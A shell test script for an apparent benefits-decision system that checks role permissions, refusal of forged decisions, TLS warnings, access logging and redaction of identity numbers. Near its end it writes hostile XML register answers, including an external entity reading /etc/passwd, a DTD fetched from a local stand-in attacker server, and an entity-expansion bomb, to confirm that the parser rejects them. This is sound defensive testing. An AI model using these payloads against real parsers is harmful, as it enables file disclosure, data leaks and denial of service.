# Security (docs/architecture.md §7, §9): the database roles tried for real by login
# roles that hold only their group, TLS verification that cannot be switched
# off silently, no full identity number in any log line of a complete run,
# and XML hardening of register answers (entities, DTDs, network access).
. "$(dirname "$0")/../lib.sh"
. "$ROOT/contrib/demo/setup.sh"
new_db || exit 2

# -- roles -------------------------------------------------------------------
# Login roles that are members of exactly one group each, as operations
# would set them up.  (Cluster-wide: names carry the database's name.)
D=d_$PGDATABASE I=i_$PGDATABASE C=c_$PGDATABASE S=s_$PGDATABASE X=x_$PGDATABASE
psql -XAtq -v ON_ERROR_STOP=1 -c "create role $D login bypassrls in role ebba_daemon;
	create role $I login in role ebba_intake; create role $C login in role ebba_caseworker;
	create role $S login in role ebba_supervisor" >/dev/null
cleanup_roles() { psql -XAtq -d postgres -c "drop owned by $D, $I, $C, $S, $X cascade" >/dev/null 2>&1
	psql -XAtq -d postgres -c "drop role if exists $D, $I, $C, $S, $X" >/dev/null 2>&1; }
as() {  # as ROLE SQL: succeeds if ROLE may run SQL
	PGUSER=$1 psql -XAtq -v ON_ERROR_STOP=1 -c "$2" >/dev/null 2>&1
}
refused() {  # refused NAME ROLE SQL
	if as "$2" "$3"; then fail "$1"; echo "#   $2 was allowed: $3"; else ok "$1"; fi
}

# The real programs work with nothing but their group's rights.
good=$ROOT/tests/data/applications/good.xml
cfg=$(write_config </dev/null)
check "ebbactl submit works as an intake login role" env PGUSER=$I "$EBBACTL" -c "$cfg" submit "$good"
PGUSER=$C "$EBBACTL" -c "$cfg" case set "$ROOT/tests/data/frames/good.yaml" >/dev/null 2>&1
check_eq "a caseworker login role may set a case frame" 1 "$(psql_val "select count(*) from ebba.case_frames")"
PGUSER=$D "$EBBAD" -c "$cfg" --once 2>"$T_TMP/daemon-role.log"
check_eq "ebbad decides as a daemon login role" decided "$(psql_val "select state from ebba.inbox")"

refused "intake may not read the inbox" "$I" "select * from ebba.inbox"
refused "intake may not update the inbox" "$I" "update ebba.inbox set state = 'pending'"
refused "intake may not delete from the inbox" "$I" "delete from ebba.inbox"
refused "intake may not set state on insert" "$I" "insert into ebba.inbox (external_id, payload, state) values ('X-1', 'x', 'decided')"
for t in decisions decision_checks register_evidence audit_flags letters case_frames; do
	refused "intake may not read ebba.$t" "$I" "select * from ebba.$t"
done
refused "intake may not insert a decision" "$I" \
	"insert into ebba.decisions (inbox_id, external_id, case_id, period, outcome, ruleset_name, ruleset_version, ruleset_sha256) values (1, 'x', 'C', '2026-12', 'approved', 'x', '1', '')"
refused "intake may not write case frames" "$I" "insert into ebba.case_frames (case_id) values ('C-X')"

for t in decisions decision_checks register_evidence letters; do
	refused "daemon may not update committed ebba.$t" "$D" "update ebba.$t set decision_id = decision_id"
	refused "daemon may not delete committed ebba.$t" "$D" "delete from ebba.$t"
done
refused "daemon may not update a decision's outcome" "$D" "update ebba.decisions set outcome = 'approved'"
refused "daemon may not delete inbox rows" "$D" "delete from ebba.inbox"
refused "daemon may not rewrite a payload" "$D" "update ebba.inbox set payload = 'x'"
refused "daemon may not write case frames" "$D" "update ebba.case_frames set case_id = case_id"
refused "daemon may not resolve audit flags" "$D" "update ebba.audit_flags set verdict = 'ok'"
refused "daemon may not truncate decisions" "$D" "truncate ebba.decisions cascade"

for t in inbox decisions decision_checks register_evidence audit_flags letters case_frames; do
	refused "caseworker may not delete from ebba.$t" "$C" "delete from ebba.$t"
done
refused "caseworker may not overwrite ebba's decision" "$C" "update ebba.decisions set outcome = 'approved'"
refused "caseworker may not touch the inbox" "$C" "update ebba.inbox set state = 'pending'"
refused "caseworker may not insert evidence" "$C" "insert into ebba.register_evidence (decision_id, source, agency, status) select id, 'x', 'x', 'ok' from ebba.decisions limit 1"
check "caseworker may read decisions and evidence" as "$C" "select * from ebba.decisions, ebba.register_evidence"

# -- the database's own defences (issue 24; RELIABILITY.md) ---------------------
# ebba's own decision is ebba_daemon's to write.  The attack of issue 24: a
# caseworker's login writes "approved, 99 999 999" for an application still
# pending, before ebbad gets to it.
psql_val "insert into ebba.inbox (external_id, payload) values ('SEC-PENDING', 'x')" >/dev/null
pending=$(psql_val "select id from ebba.inbox where external_id = 'SEC-PENDING'")
forged="insert into ebba.decisions (inbox_id, external_id, case_id, period, outcome, amount, ruleset_name, ruleset_version, ruleset_sha256) values ($pending, 'X', 'C-10042', '2026-12', 'approved', 99999999, 'x', '1', 's')"
refused "caseworker may not write ebba's decision on a pending application (issue 24's forgery)" "$C" "$forged"
check_eq "... and none was written" 0 "$(psql_val "select count(*) from ebba.decisions where inbox_id = $pending")"
ebbas=$(psql_val "select id from ebba.decisions where inbox_id is not null order by id limit 1")
refused "caseworker may not add a check to ebba's decision" "$C" \
	"insert into ebba.decision_checks (decision_id, check_id, result, message) values ($ebbas, 'forged', 'fail', 'Forged')"
check_eq "... and none was written" 0 "$(psql_val "select count(*) from ebba.decision_checks where check_id = 'forged'")"
refused "caseworker may not write a review row directly (only ebba.decide_referral)" "$C" \
	"insert into ebba.decisions (reviews_decision_id, external_id, case_id, period, outcome, ruleset_name, ruleset_version, ruleset_sha256) select id, external_id, case_id, period, 'approved', 'x', '1', 's' from ebba.decisions where id = $ebbas"
refused "caseworker may not draw decision ids" "$C" "select nextval('ebba.decisions_id_seq')"
# A person's decision with its letter, as ebba.decide_referral takes it (schema 019).
decide="select * from ebba.decide_referral($ebbas, '{\"lines\": []}', null, 100, null, null, null, null, repeat('a', 64), '', 'Brev', 'psql')"
refused "supervisor may not record a decision" "$S" "$decide"
refused "daemon may not record a caseworker's decision" "$D" "$decide"
refused "intake may not record a caseworker's decision" "$I" "$decide"
refused "no one records a decision without a letter (ebba.resolve_review is gone, schema 021)" "$C" \
	"select * from ebba.resolve_review($ebbas, 'approve', null, '', 'psql')"
# Whatever the grants say (a trigger): a role with INSERT on ebba.decisions
# that is not ebba_daemon writes no decision with inbox_id, and no review
# unless a caseworker.
psql_val "create role $X login; grant usage on schema ebba to $X; grant insert on ebba.decisions to $X;
	grant usage on sequence ebba.decisions_id_seq to $X" >/dev/null
out=$(PGUSER=$X psql -XAtq -v ON_ERROR_STOP=1 -c "$forged" 2>&1)
check_match "even with INSERT granted, a decision with inbox_id comes only from ebba_daemon (trigger)" "written only by ebba_daemon" "$out"
out=$(PGUSER=$X psql -XAtq -v ON_ERROR_STOP=1 -c "insert into ebba.decisions (reviews_decision_id, external_id, case_id, period, outcome, ruleset_name, ruleset_version, ruleset_sha256) values ($ebbas, 'X', 'C-10042', '2026-12', 'approved', 'x', '1', 's')" 2>&1)
check_match "even with INSERT granted, a review comes only from a caseworker (trigger)" "written only by a caseworker" "$out"
check_eq "a decision ebba_daemon writes says 'ebba', whatever decided_by it sends" ebba \
	"$(psql_val "insert into ebba.inbox (external_id, payload) values ('SEC-DAEMON', 'x');
	set role $D; insert into ebba.decisions (inbox_id, external_id, case_id, period, outcome, ruleset_name, ruleset_version, ruleset_sha256, decided_by)
	select id, external_id, 'C-1', '2026-12', 'referred', 'x', '1', '', '$C' from ebba.inbox where external_id = 'SEC-DAEMON' returning decided_by")"

# A caseworker's decision, through ebba.decide_referral only: named after the
# session, never an argument.
check_eq "caseworker records a decision through ebba.decide_referral, named after the session" "$C" \
	"$(PGUSER=$C psql -XAtq -v ON_ERROR_STOP=1 -c "select reviewed_by from ($decide) r" 2>&1)"
check_eq "... its decided_by is the caseworker" "$C" "$(psql_val "select decided_by from ebba.decisions where reviews_decision_id = $ebbas")"
check_eq "... and its access_log row was written with it" 1 \
	"$(psql_val "select count(*) from ebba.access_log where who = '$C' and action = 'resolve' and object_kind = 'decision' and object_id = '$ebbas'")"

# Audit flags: resolved through ebba.resolve_flag, at the database's time.
flag() { psql_val "insert into ebba.audit_flags (decision_id, kind, reason) values ($ebbas, 'targeted', 'test') returning id"; }
F1=$(flag)
refused "caseworker may not backdate a flag's resolution (issue 24)" "$C" "update ebba.audit_flags set resolved_at = '2001-01-01' where id = $F1"
refused "caseworker may not resolve a flag by UPDATE (only ebba.resolve_flag)" "$C" "update ebba.audit_flags set resolved_at = now(), verdict = 'ok' where id = $F1"
refused "daemon may not resolve a flag" "$D" "select ebba.resolve_flag($F1, 'ok', null, 'psql')"
check "caseworker may resolve an audit flag through ebba.resolve_flag" as "$C" "select ebba.resolve_flag($F1, 'ok', null, 'psql')"
check_eq "... resolved now, by the caseworker's own role, with an access_log row" "true $C 1" \
	"$(psql_val "select (resolved_at > now() - interval '1 minute')::text || ' ' || resolved_by || ' ' ||
	(select count(*) from ebba.access_log where who = '$C' and action = 'resolve' and object_kind = 'audit_flag' and object_id = '$F1')
	from ebba.audit_flags where id = $F1")"
refused "caseworker may not rewrite a flag's reason" "$C" "update ebba.audit_flags set reason = 'x'"
# Whoever may UPDATE (the owner here): the database's clock, not the client's.
F2=$(flag)
psql_val "update ebba.audit_flags set resolved_at = '2001-01-01', verdict = 'ok' where id = $F2" >/dev/null
check_eq "a backdated resolved_at is stamped with the time of the change (trigger)" t \
	"$(psql_val "select resolved_at > now() - interval '1 minute' from ebba.audit_flags where id = $F2")"
F3=$(psql_val "insert into ebba.audit_flags (decision_id, kind, reason, created_at) values ($ebbas, 'targeted', 'test', '2001-01-01') returning id")
check_eq "a backdated created_at is stamped with the time of the insert (trigger)" t \
	"$(psql_val "select created_at > now() - interval '1 minute' from ebba.audit_flags where id = $F3")"
psql_val "insert into ebba.inbox (external_id, payload) values ('SEC-1', 'x');
	insert into ebba.decisions (inbox_id, external_id, case_id, period, outcome, ruleset_name, ruleset_version, ruleset_sha256)
	select id, external_id, 'C-1', '2026-12', 'referred', 'x', '1', '' from ebba.inbox where external_id = 'SEC-1';
	insert into ebba.register_evidence (decision_id, source, agency, status, fetched_at, sha256) select id, 'ssbtek', 'AF', 'ok', now(), '' from ebba.decisions where external_id = 'SEC-1'" >/dev/null
refused "even the table owner cannot delete a decision (trigger)" postgres "delete from ebba.decisions"
refused "even the table owner cannot update evidence (trigger)" postgres "update ebba.register_evidence set status = 'ok'"
cleanup_roles

# -- a complete run, with hostile register answers --------------------------
createdb "${PGDATABASE}_run" && export PGDATABASE=${PGDATABASE}_run
demo_setup "$ROOT" "$ROOT/$BUILD" "$T_TMP/demo" "$EBBA_REFERENCE" 2>"$T_TMP/setup.log" || { fail "demo setup"; cat "$T_TMP/setup.log"; exit 0; }
T_PIDS+=("$DEMO_REGSIM_PID")
data=$T_TMP/demo/data
# An "attacker" server: any request reaching it is a leak.
mkdir -p "$T_TMP/empty"
"$REGSIM" --dir "$T_TMP/empty" --port 0 --port-file "$T_TMP/evil.port" >/dev/null 2>&1 & T_PIDS+=($!)
for _ in $(seq 100); do [ -s "$T_TMP/evil.port" ] && break; sleep 0.05; done
evil=$(cat "$T_TMP/evil.port")
# Replace the registers' answers for three plain households' applicants
# with hostile XML: an external entity reading a file, a DTD fetched over
# the network, and an internal entity expansion bomb.
applicant() { grep -o 'pnr="[0-9]*" role="applicant"' "$data/applications/$1.xml" | grep -o '[0-9]\{12\}'; }
# The attendance one must be a household whose applicant has a required
# plan, so its attendance is evidence the rules need.
plain=()
while IFS=$'\t' read -r id case _ dev; do
	[ "$dev" = none ] || continue
	if [ ${#plain[@]} -lt 2 ]; then plain+=("$id"); continue; fi
	a=$(applicant "$id")
	if [ -f "$data/registers/plan/$a.xml" ] && grep -q "$a: {[^}]*plan: required" "$data/cases/$case.yaml"; then
		plain+=("$id"); break
	fi
done < <(tac "$data/manifest.tsv")
p1=$(applicant "${plain[0]}") p2=$(applicant "${plain[1]}") p3=$(applicant "${plain[2]}")
sed "0,/<soap:Envelope/s||<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><soap:Envelope|" \
	"$data/registers/ssbtek/$p1.xml" >"$T_TMP/x" && sed -i 's|<ssbt:svarsdata>|<ssbt:svarsdata>\&x;|' "$T_TMP/x" && mv "$T_TMP/x" "$data/registers/ssbtek/$p1.xml"
sed "0,/<soap:Envelope/s||<!DOCTYPE soap:Envelope SYSTEM \"http://127.0.0.1:$evil/ssbtek.dtd\"><soap:Envelope|" \
	-i "$data/registers/ssbtek/$p2.xml"
if [ -f "$data/registers/plan/$p3.xml" ]; then
	{ echo '<?xml version="1.0"?>'
	  echo '<!DOCTYPE attendance [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e SYSTEM "http://127.0.0.1:'"$evil"'/attendance?pnr=leak">]>'
	  grep -v '^<?xml' "$data/registers/plan/$p3.xml" | sed 's|</attendance>|<x>\&d;\&e;</x></attendance>|'; } >"$T_TMP/x"
	mv "$T_TMP/x" "$data/registers/plan/$p3.xml"
fi
LOGS=$T_TMP/logs; mkdir -p "$LOGS"
sed -i '/^registers:/a\  insecure_skip_verify: true' "$T_TMP/demo/ebba.yaml"
ctl() { "$EBBACTL" -c "$T_TMP/demo/ebba.yaml" "$@"; }
"$EBBAD" -c "$T_TMP/demo/ebba.yaml" --once 2>"$LOGS/ebbad-1.log"
check_eq "the complete run decides everything" 0 "$(psql_val "select count(*) from ebba.inbox where state not in ('decided')")"
for e in "${plain[@]}"; do
	check_eq "hostile register XML for $e: referred" referred "$(psql_val "select outcome from ebba.decisions where external_id = '$e'")"
done
check_match "... with the register named in the reason" "Register ej tillgängligt: .*(AF|SSBTEK)" \
	"$(psql_val "select string_agg(c.message, ' | ') from ebba.decision_checks c join ebba.decisions d on d.id = c.decision_id where d.external_id = '${plain[0]}' and c.result <> 'pass'")"
check_eq "no file content was expanded into evidence" 0 \
	"$(psql_val "select count(*) from ebba.register_evidence where position('root:x:0:0' in convert_from(raw, 'UTF8')) > 0")"
check_match "the attacker's server received no request" "^requests [01] \(ssbtek 0, attendance 0" \
	"$(curl -s "http://127.0.0.1:$evil/stats" 2>/dev/null || echo 'no curl')"

# TLS verification off must be said loudly at every start.
"$EBBAD" -c "$T_TMP/demo/ebba.yaml" --once 2>"$LOGS/ebbad-2.log"
for n in 1 2; do
	check "insecure_skip_verify: start $n logs a loud warning" grep -q 'WARNING: .*TLS verification OFF' "$LOGS/ebbad-$n.log"
done
sed -i '/insecure_skip_verify/d' "$T_TMP/demo/ebba.yaml"
"$EBBAD" -c "$T_TMP/demo/ebba.yaml" --once 2>"$LOGS/ebbad-3.log"
check "without it, no such warning" bash -c "! grep -q 'TLS verification' '$LOGS/ebbad-3.log'"

# Everything a caseworker and operator would run, logs kept.  Each view
# of personal data is an access_log row (issue 24): review list, show,
# replay, case show.
views() { psql_val "select count(*) from ebba.access_log where who = current_user and action = 'view' and object_kind = '$1' and client = 'ebbactl'"; }
ctl status >"$LOGS/status.out" 2>"$LOGS/status.log"
ctl review list >"$LOGS/review.out" 2>"$LOGS/review.log"
check_eq "ebbactl review list writes an access_log row" 1 "$(views queue)"
ids=$(psql_val "select id from ebba.decisions order by id limit 5")
for id in $ids; do
	ctl review show "$id" >>"$LOGS/show.out" 2>>"$LOGS/show.log"
	ctl replay "$id" >>"$LOGS/replay.out" 2>>"$LOGS/replay.log"
done
check_eq "ebbactl review show and replay write an access_log row each, naming the decision" \
	"$(for id in $ids; do echo "$id 2"; done)" \
	"$(psql_val "select object_id || ' ' || count(*) from ebba.access_log where who = current_user and action = 'view'
	and object_kind = 'decision' and client = 'ebbactl' group by object_id order by object_id::bigint")"
fc=$(psql_val "select case_id from ebba.case_frames order by case_id limit 1")
ctl case show "$fc" >/dev/null 2>>"$LOGS/case.log"
check_eq "ebbactl case show writes an access_log row" 1 "$(views case_frame)"
a=$(grep -v "^#" "$data/manifest.tsv" | head -n 1 | cut -f1)
ctl calc "$data/applications/$a.xml" --case "$data/cases/$(grep -o 'case="[^"]*"' "$data/applications/$a.xml" | cut -d'"' -f2).yaml" \
	--registers "$data/registers" >/dev/null 2>"$LOGS/calc.log"
cp "$T_TMP/demo/regsim.log" "$LOGS/regsim.log"
lines=$(cat "$LOGS"/*.log | wc -l)
check "the logs of the complete run are not empty ($lines lines)" test "$lines" -gt 0
hits=$(grep -HEn '(19|20)[0-9]{6}-?[0-9]{4}' "$LOGS"/*.log | head -5)
check_eq "no full identity number in any of $lines log lines" "" "$hits"
demo_stop_regsim
